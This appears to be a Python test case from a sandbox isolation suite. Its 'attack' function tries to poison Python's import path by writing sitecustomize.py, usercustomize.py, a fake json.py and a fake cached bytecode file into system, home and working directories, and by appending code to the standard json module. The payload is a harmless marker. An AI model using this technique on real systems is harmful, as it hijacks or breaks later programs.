# ruff: noqa
"""Leave code where the next program's Python would load it."""

import json
import os
import sys


def attack(world):
    text = "raise SystemExit('poisoned')"
    places = [*sys.path, os.path.dirname(json.__file__), os.path.expanduser("~"), "/", ".", world["folder"]]
    for place in dict.fromkeys(places):
        for name in ("sitecustomize.py", "usercustomize.py", "__pycache__/json.cpython-311.pyc", "json.py"):
            attempt(os.path.join(place, name), lambda path=os.path.join(place, name): open(path, "w").write(text))
    attempt("json itself", lambda: open(json.__file__, "a").write(text))
    return came_off()
